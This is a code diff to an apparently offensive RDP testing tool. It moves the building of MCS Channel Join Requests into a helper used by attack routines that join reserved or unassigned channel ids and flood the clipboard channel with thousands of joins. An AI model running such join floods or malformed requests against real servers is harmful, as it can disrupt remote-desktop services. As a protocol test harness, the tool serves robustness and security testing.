@@ -760,17 +760,30 @@ recv_domain(struct conn *c, struct rdp_mcs_pdu *p)
 	return r;
 }
 
+/* Appends an X.224 Data TPDU with a Channel Join Request of our user for
+ * id (T.125 ALIGNED PER: choice, initiator - 1001, channelId). */
+static int
+put_join(struct vbuf *b, uint16_t user, uint16_t id)
+{
+	unsigned char j[5] = { 0x38 };
+
+	j[1] = (unsigned char)((user - 1001) >> 8);
+	j[2] = (unsigned char)((user - 1001) & 0xFF);
+	j[3] = (unsigned char)(id >> 8);
+	j[4] = (unsigned char)(id & 0xFF);
+	return rdp_x224_write_data(b, j, sizeof(j));
+}
+
 static int
 join(struct conn *c, uint16_t id)
 {
-	unsigned char j[5] = { 0x38 };
+	struct vbuf *b = nb();
 	struct rdp_mcs_pdu p;
+	int r;
 
-	j[1] = (unsigned char)((c->user - 1001) >> 8);
-	j[2] = (unsigned char)((c->user - 1001) & 0xFF);
-	j[3] = (unsigned char)(id >> 8);
-	j[4] = (unsigned char)(id & 0xFF);
-	if (send_x224(c, j, sizeof(j)) != 0 || recv_domain(c, &p) != 0 ||
+	r = put_join(b, c->user, id) == 0 ? send_buf(c, b) : -1;
+	vbuf_free(b);
+	if (r != 0 || recv_domain(c, &p) != 0 ||
 	    p.type != RDP_MCS_CHANNEL_JOIN_CONFIRM)
 		return -1;
 	say("event=join id=%u result=%u", id, p.result);
@@ -1329,17 +1342,12 @@ run_attack(struct conn *c)
 	case A_JOIN_UNASSIGNED: {
 		static const uint16_t ids[] = { 0, 1, 1001, 1002, 0xFFFF };
 		struct vbuf *b = nb();
-		unsigned char j[5] = { 0x38 };
 		int r = 0;
 
 		for (i = 0; i < sizeof(ids) / sizeof(ids[0]) && r == 0; i++) {
 			if (ids[i] == c->user || ids[i] == c->io)
 				continue;
-			j[1] = (unsigned char)((c->user - 1001) >> 8);
-			j[2] = (unsigned char)((c->user - 1001) & 0xFF);
-			j[3] = (unsigned char)(ids[i] >> 8);
-			j[4] = (unsigned char)(ids[i] & 0xFF);
-			r = rdp_x224_write_data(b, j, sizeof(j));
+			r = put_join(b, c->user, ids[i]);
 			say("event=join_unassigned id=%u", ids[i]);
 		}
 		r = r == 0 ? send_buf(c, b) : -1;
@@ -1368,7 +1376,6 @@ run_attack(struct conn *c)
 		return send_data_pdu(c, 0x32, buf, 16);
 	case A_JOIN_FLOOD: {
 		struct vbuf *b = nb();
-		unsigned char j[5] = { 0x38 };
 		int r = 0, k;
 
 		id = chan_id(c, "cliprdr");
@@ -1376,10 +1383,6 @@ run_attack(struct conn *c)
 			vbuf_free(b);
 			return -1;
 		}
-		j[1] = (unsigned char)((c->user - 1001) >> 8);
-		j[2] = (unsigned char)((c->user - 1001) & 0xFF);
-		j[3] = (unsigned char)(id >> 8);
-		j[4] = (unsigned char)(id & 0xFF);
 		/* the same join twice, then writes of up to 5000, never
 		 * reading; a peer that closes on the flood ends it, so the
 		 * attack counts as delivered once the first two went out */
@@ -1392,7 +1395,7 @@ run_attack(struct conn *c)
 			    : (want - sent > 5000 ? 5000 : want - sent);
 
 			for (i = 0; i < (unsigned int)n && r == 0; i++)
-				r = rdp_x224_write_data(b, j, sizeof(j));
+				r = put_join(b, c->user, id);
 			r = r == 0 ? send_buf(c, b) : -1;
 			if (r == 0)
 				sent += n;
